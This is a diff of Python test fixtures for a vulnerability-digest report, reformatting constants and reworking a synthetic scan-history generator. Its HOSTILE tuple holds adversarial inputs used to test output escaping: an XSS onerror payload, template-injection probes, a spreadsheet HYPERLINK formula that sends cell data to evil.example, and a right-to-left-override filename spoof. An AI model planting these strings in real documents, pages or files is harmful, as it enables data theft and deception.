@@ -14,11 +14,20 @@ from tests.unit.test_digest import NOW, ON, check, digest
 
 REPOSITORIES = ("shop/cart", "shop/checkout", "shop/search", "platform/gateway", "platform/auth", "data/ingest", "data/reports")
 PACKAGES = ("openssl", "curl", "glibc", "zlib", "libxml2", "python3.12", "log4j-core", "jackson-databind", "busybox", "sqlite")
-FAULTS = ("buffer overflow in the parser", "use after free", "request smuggling", "path traversal", "denial of service by a long header")
+FAULTS = (
+    "buffer overflow in the parser",
+    "use after free",
+    "request smuggling",
+    "path traversal",
+    "denial of service by a long header",
+)
 SEVERITY_WEIGHTS = {"CRITICAL": 2, "HIGH": 18, "MEDIUM": 52, "LOW": 24, "UNTRIAGED": 4}
 COVERED = Coverage(
     ACCOUNT,
-    {ACCOUNT: AccountScanning("on", scanned=231, not_scanned=14), OTHER_ACCOUNT: AccountScanning("on", scanned=88, not_scanned=3)},
+    {
+        ACCOUNT: AccountScanning("on", scanned=231, not_scanned=14),
+        OTHER_ACCOUNT: AccountScanning("on", scanned=88, not_scanned=3),
+    },
     319,
     17,
     {
@@ -31,7 +40,9 @@ DARK = replace(
     COVERED,
     accounts={
         ACCOUNT: COVERED.accounts[ACCOUNT],
-        OTHER_ACCOUNT: AccountScanning("off", dict.fromkeys(SCAN_TYPES, "off"), why="DISABLED: Inspector was disabled by the account."),
+        OTHER_ACCOUNT: AccountScanning(
+            "off", dict.fromkeys(SCAN_TYPES, "off"), why="DISABLED: Inspector was disabled by the account."
+        ),
     },
 )
 HOSTILE = (
@@ -39,7 +50,7 @@ HOSTILE = (
     "</script><img src=x onerror=\"document.title='owned'\">",
     "{{ 7 * 7 }} {% raw %} ${7*7} <!--",
     '=HYPERLINK("https://evil.example/?"&A1,"open")',
-    "\u202egnp.exe \u2067مرحبا بالعالم \u05e9\u05dc\u05d5\u05dd",
+    "\u202egnp.exe \u2067\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
     "👩‍👩‍👧‍👦🔥" * 20,
     "W" * 10_000,
     "z\u0300\u0301\u0302" * 40,
@@ -155,7 +166,8 @@ def busy(count: int = 5_000) -> dict[str, Any]:
     """A night with thousands of listed changes."""
     half = count // 2
     return with_listed(
-        ordinary(), {"new": [listed(number) for number in range(half)], "resource_gone": [listed(number) for number in range(half, count)]}
+        ordinary(),
+        {"new": [listed(number) for number in range(half)], "resource_gone": [listed(number) for number in range(half, count)]},
     )
 
 
@@ -181,18 +193,21 @@ def hostile() -> dict[str, Any]:
     return made
 
 
-def trend(runs: int = 30, made: Mapping[str, Any] | None = None) -> list[dict[str, Any]]:
+def trend(made: Mapping[str, Any], runs: int = 30) -> list[dict[str, Any]]:
     """The history lines of runs until tonight; two of them without numbers."""
-    chance = random.Random(9)
+    chance, last = random.Random(9), made["counts"]["by_severity"]
     told: list[dict[str, Any]] = []
     for before in reversed(range(runs)):
-        counts = {"CRITICAL": 4 + before // 4 + chance.randint(0, 2), "HIGH": 70 + 2 * before + chance.randint(-8, 8), "MEDIUM": 190 - before + chance.randint(-9, 9), "LOW": 80 + chance.randint(-3, 9), "UNTRIAGED": chance.randint(5, 20)}
+        counts = {
+            severity: max(round(count * (1 + before / 40) + chance.randint(-2, 2) * (1 + count / 50)), 0)
+            for severity, count in last.items()
+        }
         failed = before in {6, 19}
         told.append(
             {
                 "started_at": (NOW - timedelta(days=before)).isoformat(),
                 "outcome": "FAILED" if failed else "SUCCEEDED",
-                "by_severity": None if failed else dict(made["counts"]["by_severity"]) if made and not before else counts,
+                "by_severity": None if failed else counts if before else dict(last),
             }
         )
     return told
